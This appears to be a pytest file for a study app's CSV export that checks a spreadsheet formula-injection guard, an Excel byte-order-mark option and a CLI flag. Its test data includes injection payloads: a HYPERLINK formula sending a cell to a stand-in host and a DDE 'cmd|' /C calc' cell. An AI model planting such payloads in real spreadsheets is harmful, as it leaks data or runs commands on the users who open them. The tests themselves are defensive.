"""The spreadsheet CSVs: formula-injection guard, `--excel` byte-order mark, round trip.

A student's typed answer is stored as typed, and a cloze answer such as `=HYPERLINK(...)` or
`@SUM(A1)` would run as a formula when the CSV is opened in a spreadsheet. Every text cell
that starts with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`.
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from ldn_tui.content import load_content
from ldn_tui.content.hashing import question_hash
from ldn_tui.export import export, render
from ldn_tui.export.csvio import ATTEMPT_COLUMNS, FORMULA_STARTS, SUMMARY_COLUMNS, guard, unguard
from ldn_tui.progress.store import ProgressStore

ROOT = Path(__file__).resolve().parents[2]
MINI = ROOT / "tests" / "fixtures" / "mini"
T0 = datetime(2025, 3, 1, 9, 0, tzinfo=UTC)
CLOZE = "basics.what-is-ldn/q3"

#: What students might type into a cloze blank, dangerous and harmless, with quotes, commas,
#: line breaks and non-ASCII text that a CSV must carry unchanged.
TYPED = [
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "+1963",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "1963",
    "'quoted already",
    'a "quote", a comma\nand a new line',
    "naltrexone → 1,5–4,5 mg, ß, 低剂量",
]


@pytest.fixture(scope="module")
def mini():
    return load_content(MINI)


@pytest.fixture
def store(tmp_path, mini):
    s = ProgressStore.open(tmp_path / "p.sqlite3", now=T0)
    q = mini.question_by_uid[CLOZE]
    for i, typed in enumerate(TYPED):
        s.record_attempt(
            CLOZE,
            card_id=q.card_id,
            content_hash=question_hash(q),
            answer=typed,
            score=0.0,
            confidence="guess",
            now=T0 + timedelta(minutes=i),
        )
    yield s
    s.close()


def _rows(data: bytes) -> list[dict[str, str]]:
    text = data.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_guard_neutralises_every_formula_start():
    for start in FORMULA_STARTS:
        cell = f"{start}cmd|' /C calc'!A0"
        assert guard(cell) == "'" + cell
        assert unguard(guard(cell)) == cell
    for safe in ("1963", "LDN", "", "'already text", "a=b", " =1"):
        assert guard(safe) == safe and unguard(safe) == safe
    assert guard(-5) == -5 and guard(0.5) == 0.5  # numbers stay numbers


def test_attempts_csv_guards_typed_answers_and_round_trips(mini, store):
    data = render("csv", mini, store, now=T0 + timedelta(days=1), tz=UTC)
    rows = _rows(data)
    assert list(rows[0]) == list(ATTEMPT_COLUMNS) and len(rows) == len(TYPED)
    yours = [r["your answer"] for r in rows]
    for cell, typed in zip(yours, TYPED, strict=True):
        if typed.startswith(FORMULA_STARTS):
            assert cell == "'" + typed  # a spreadsheet shows it as text
        else:
            assert cell == typed
        assert unguard(cell) == typed  # and nothing is lost
    # no cell anywhere in the file starts like a formula
    for row in rows:
        for value in row.values():
            assert not value.startswith(FORMULA_STARTS), value


def test_summary_csv_is_guarded_too(mini, store):
    rows = _rows(render("csv", mini, store, now=T0 + timedelta(days=1), tz=UTC, summary=True))
    assert list(rows[0]) == list(SUMMARY_COLUMNS)
    for row in rows:
        for value in row.values():
            assert not value.startswith(FORMULA_STARTS), value


def test_excel_option_adds_a_bom_and_nothing_else(mini, store):
    plain = render("csv", mini, store, now=T0, tz=UTC)
    excel = render("csv", mini, store, now=T0, tz=UTC, excel=True)
    assert not plain.startswith(b"\xef\xbb\xbf")
    assert excel == b"\xef\xbb\xbf" + plain
    assert _rows(excel) == _rows(plain)
    assert b"\r\n" in plain  # RFC 4180 line ends
    summary = render("csv", mini, store, now=T0, tz=UTC, summary=True, excel=True)
    assert summary.startswith(b"\xef\xbb\xbf")


def test_anki_csv_is_not_guarded(mini):
    """Anki is not a spreadsheet: its fields are HTML, and a `'` would show on the card."""
    data = render("anki-csv", mini, None).decode("utf-8")
    assert not data.startswith("\ufeff")
    for row in csv.reader(io.StringIO(data)):
        if row and not row[0].startswith("#"):
            assert row[3].startswith("<div")


def test_export_writes_the_guarded_file_atomically(mini, store, tmp_path):
    out = tmp_path / "attempts.csv"
    result = export(mini, store, "csv", output=out, now=T0, tz=UTC, excel=True)
    assert result.path == out and out.read_bytes() == render("csv", mini, store, now=T0, tz=UTC, excel=True)
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


def test_cli_excel_flag(ldn_study_exe, tmp_path):
    env = dict(os.environ, LDN_STUDY_HOME=str(tmp_path / "home"), LDN_STUDY_CONTENT=str(MINI))

    def run(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run([ldn_study_exe, *args], capture_output=True, text=True, env=env, cwd=tmp_path, timeout=60)

    r = run("export", "-f", "csv", "--excel", "-o", "a.csv")
    assert r.returncode == 0, r.stderr
    assert (tmp_path / "a.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    r = run("export", "-f", "csv", "-o", "b.csv")
    assert r.returncode == 0 and not (tmp_path / "b.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    r = run("export", "-f", "anki-csv", "--excel")
    assert r.returncode == 2 and "--excel goes with --format csv" in r.stderr
    r = run("export", "--help")
    assert "--excel" in r.stdout and "formula" in r.stdout
